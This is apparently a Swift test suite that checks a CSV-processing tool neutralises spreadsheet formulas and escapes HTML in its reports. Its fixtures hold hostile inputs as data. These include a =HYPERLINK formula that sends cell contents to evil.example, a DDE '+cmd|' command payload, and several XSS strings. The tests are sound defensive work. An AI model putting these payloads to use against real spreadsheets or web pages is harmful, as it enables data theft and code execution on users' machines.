import Foundation
import Testing
@testable import PlanCheckKit

/// No formula from a record or a plan reaches a spreadsheet through any CSV output, and no markup
/// from them reaches an HTML report.
@Suite("Spreadsheet safety: formula guard in every CSV output, HTML escaping")
struct SpreadsheetSafetyTests {
    static let hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                          "\t=1+1", "\r=2+2", "=1+1"]

    /// Records whose org, type, title, lead, target and id are formula-like, plus a plan with a
    /// formula-like rule title, source and clause.
    static func fixture() -> (dir: String, records: String, plan: String) {
        let dir = TestSupport.tempDir("formula")
        func q(_ s: String) -> String { "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        var text = "id,date,org,type,title,participants,lead,target\n"
        for (i, h) in hostile.enumerated() {
            text += [q(h), "2022-0\(i + 1)-05", q(h), "党课", q(h), "\(i + 1)", q(h), q(h)].joined(separator: ",") + "\n"
            text += ["ok\(i)", "2022-0\(i + 1)-06", "宝胜寺社区党支部", q(h), q(h), "3", "何丽娟", ""].joined(separator: ",") + "\n"
        }
        // An exact duplicate, so a duplicate warning quotes a hostile title.
        text += [q("=dup"), "2022-08-05", q("=HYPERLINK(\"x\")"), "党课", q("=HYPERLINK(\"x\")"), "1", "a", ""].joined(separator: ",") + "\n"
        text += [q("=dup2"), "2022-08-05", q("=HYPERLINK(\"x\")"), "党课", q("=HYPERLINK(\"x\")"), "1", "a", ""].joined(separator: ",") + "\n"
        // A rejected row whose reason quotes a hostile date.
        text += ["x", q("=NOW()"), "甲", "党课", "t", "1", "a", ""].joined(separator: ",") + "\n"
        let records = TestSupport.write(text, name: "records.csv", dir: dir)
        let plan = TestSupport.write("""
        id,title,checker,types,threshold,period,scope,clause,source
        "=R1","=HYPERLINK(""http://evil.example"",""x"")",count,党课,2,quarter,all,"+cmd|' /C calc'!A0","@SUM(1)"
        -R2,-2+3,count,党课,1,year,kind:社区党支部,"-1","=1+1"

        """, name: "plan-2022.csv", dir: dir)
        return (dir, records, plan)
    }

    /// Parses a CSV report (optional BOM) with the reader's own tokenizer.
    static func cells(_ path: String) throws -> [[String]] {
        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        if bytes.starts(with: [0xEF, 0xBB, 0xBF]) { bytes.removeFirst(3) }
        var rows: [[String]] = []
        try bytes.withUnsafeBufferPointer { b in
            var t = CSVTokenizer(path: path)
            try t.feed(b) { r in rows.append((0..<r.count).map { r.string($0) }) }
            try t.finish { r in rows.append((0..<r.count).map { r.string($0) }) }
        }
        return rows
    }

    static func formulaLike(_ c: String) -> Bool {
        guard let f = c.utf8.first, c.utf8.count > 1 else { return false }
        return [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D].contains(f)
    }

    /// Every CSV file written by check, inspect and stats (all tables) for the fixture.
    static func csvOutputs(guarded: Bool) throws -> [String: [[String]]] {
        let (dir, records, plan) = fixture()
        let off = guarded ? [] : ["--no-formula-guard"]
        let roster = TestSupport.root + "/SampleData/roster-units.csv"
        let out = dir + "/out"
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
        let c = TestSupport.run(["check", "--plan", plan, "--roster", roster, "--as-of", "2022-12-31", "--fail-on", "never",
                                 "-o", out + "/check.csv"] + off + [records])
        #expect(c.code == 0, "\(c.err)")
        let cs = TestSupport.run(["check", "--plan", plan, "--as-of", "2022-12-31", "--fail-on", "never", "--format", "csv"] + off + [records])
        TestSupport.write(cs.out, name: "check-stdout.csv", dir: out)
        let i = TestSupport.run(["inspect", "--format", "csv", "-o", out + "/inspect.csv"] + off + [records])
        #expect(i.code == 0, "\(i.err)")
        let s = TestSupport.run(["stats", "--plan", plan, "--roster", roster, "--as-of", "2022-12-31", "--csv-dir", out,
                                 "-o", out + "/stats-output.csv"] + off + [records])
        #expect(s.code == 0, "\(s.err)")
        var all: [String: [[String]]] = [:]
        for f in try FileManager.default.contentsOfDirectory(atPath: out) where f.hasSuffix(".csv") { all[f] = try cells(out + "/" + f) }
        #expect(Set(all.keys) == ["check.csv", "check-stdout.csv", "inspect.csv", "stats-output.csv", "stats-long.csv", "stats-pivot.csv",
                                  "stats-rules.csv", "stats-units.csv", "stats-health.csv"])
        return all
    }

    @Test("formula guard on by default: no cell of any CSV output (check, inspect, stats tables) is formula-like")
    func guarded() throws {
        let all = try Self.csvOutputs(guarded: true)
        for (file, rows) in all {
            for (n, r) in rows.enumerated() {
                for c in r { #expect(!Self.formulaLike(c), "\(file) row \(n + 1): \(c.debugDescription)") }
            }
        }
        // The hostile text is there, neutralised with a leading apostrophe, not dropped.
        let inspect = all["inspect.csv"]!.flatMap { $0 }
        for h in Self.hostile.map({ FieldParsing.trimmed($0) }) { #expect(inspect.contains("'" + h), "\(h.debugDescription)") }
        let check = all["check.csv"]!.flatMap { $0 }
        #expect(check.contains("'=HYPERLINK(\"http://evil.example\",\"x\")") && check.contains("'@SUM(1)") && check.contains("'-2+3"))
        #expect(check.contains("'=R1") && check.contains("'-R2"))
        #expect(all["stats-long.csv"]!.flatMap { $0 }.contains("'=HYPERLINK(\"x\")"))
        #expect(all["stats-rules.csv"]!.flatMap { $0 }.contains("'=HYPERLINK(\"http://evil.example\",\"x\")"))
        // A lone "-" (standard input's name, an empty placeholder) is not a formula and stays as it is.
        #expect(CSVWriter.neutralise("-") == "-" && CSVWriter.neutralise("") == "")
    }

    @Test("--no-formula-guard writes cells exactly as they are (for machine consumers)")
    func unguarded() throws {
        let all = try Self.csvOutputs(guarded: false)
        let inspect = all["inspect.csv"]!.flatMap { $0 }
        for h in Self.hostile.map({ FieldParsing.trimmed($0) }) { #expect(inspect.contains(h), "\(h.debugDescription)") }
        #expect(all["check.csv"]!.flatMap { $0 }.contains("=HYPERLINK(\"http://evil.example\",\"x\")"))
        #expect(all["stats-long.csv"]!.flatMap { $0 }.contains("=HYPERLINK(\"x\")"))
    }

    @Test("HTML reports (check and stats) escape record text, org names and rule titles")
    func html() throws {
        let dir = TestSupport.tempDir("html")
        let script = "<script>alert('x')</script>"
        let quotes = "\"onmouseover=\"alert(1)\" '"
        let text = """
        id,date,org,type,title,participants,lead,target
        1,2022-01-05,"\(script.replacingOccurrences(of: "\"", with: "\"\""))",党课,"<img src=x onerror=alert(1)>",3,"<b>lead</b>",
        2,2022-01-06,"\(quotes.replacingOccurrences(of: "\"", with: "\"\""))",党课,"\(script)",3,a,
        3,2022-02-30,"<iframe>",党课,"</td><script>",3,a,

        """
        let records = TestSupport.write(text, name: "r.csv", dir: dir)
        let plan = TestSupport.write("""
        id,title,checker,types,threshold,period,scope,source
        H1,"<script>alert(""rule"")</script>",count,党课,5,year,all,"<a href=""javascript:x"">s</a>"

        """, name: "plan-2022.csv", dir: dir)
        let roster = TestSupport.root + "/SampleData/roster-units.csv"
        let c = TestSupport.run(["check", "--plan", plan, "--roster", roster, "--as-of", "2022-12-31", "-o", dir + "/c.html", records])
        #expect(c.code == 1, "\(c.err)")
        let s = TestSupport.run(["stats", "--plan", plan, "--roster", roster, "--as-of", "2022-12-31", "-o", dir + "/s.html", records])
        #expect(s.code == 0, "\(s.err)")
        for f in ["c.html", "s.html"] {
            let html = try String(contentsOfFile: dir + "/" + f, encoding: .utf8)
            for bad in ["<script", "<img", "<iframe", "<b>", "<a href", "onmouseover=\"", "</td><script"] {
                #expect(!html.contains(bad), "\(f) contains \(bad)")
            }
            #expect(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"), "\(f): the org name, escaped")
            #expect(html.contains("&lt;script&gt;alert(&quot;rule&quot;)&lt;/script&gt;"), "\(f): the rule title, escaped")
        }
        #expect(try String(contentsOfFile: dir + "/c.html", encoding: .utf8).contains("&quot;onmouseover=&quot;alert(1)&quot; &#39;"))
    }
}

extension FieldParsing {
    /// `trim` for a `String` (the reader trims spaces, tabs and line ends at the ends of every cell).
    static func trimmed(_ s: String) -> String {
        var s = s
        return s.withUTF8 { String(decoding: trim($0), as: UTF8.self) }
    }
}
